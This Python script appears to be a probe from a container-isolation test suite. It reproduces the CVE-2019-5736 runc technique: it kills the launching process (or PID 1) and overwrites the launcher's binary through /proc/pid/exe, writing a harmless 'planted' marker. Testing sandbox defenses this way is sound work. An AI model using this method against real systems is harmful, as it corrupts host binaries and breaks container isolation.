# Overwrites the program that launched it, through /proc/pid/exe (CVE-2019-5736, runc; the host compares it).
# range: with=own-launcher
import os
import signal
import time
from contextlib import suppress

from common import facts, finish, hit

launchers = {os.getppid(), 1} if os.getppid() < 2 else {os.getppid()}
held = []
for pid in launchers - {0}:
    with suppress(OSError):
        held.append(os.open(f"/proc/{pid}/exe", os.O_RDONLY))
        target = os.readlink(f"/proc/{pid}/exe")
        if target.startswith(facts["base"]):
            os.unlink(target)
            with open(target, "w") as file:
                file.write("planted\n")
# While it runs it cannot be written (ETXTBSY); so it is ended first, and the descriptor is kept.
for pid in launchers - {0}:
    with suppress(OSError):
        os.kill(pid, signal.SIGKILL)
end = time.time() + 1
while held and time.time() < end:
    for descriptor in list(held):
        with suppress(OSError):
            if os.readlink(f"/proc/self/fd/{descriptor}").startswith("/usr/"):
                continue
            os.write(os.open(f"/proc/self/fd/{descriptor}", os.O_WRONLY | os.O_APPEND), b"planted\n")
            hit("the launcher's program was written")
            held.remove(descriptor)
    time.sleep(0.01)
finish("the host looks")
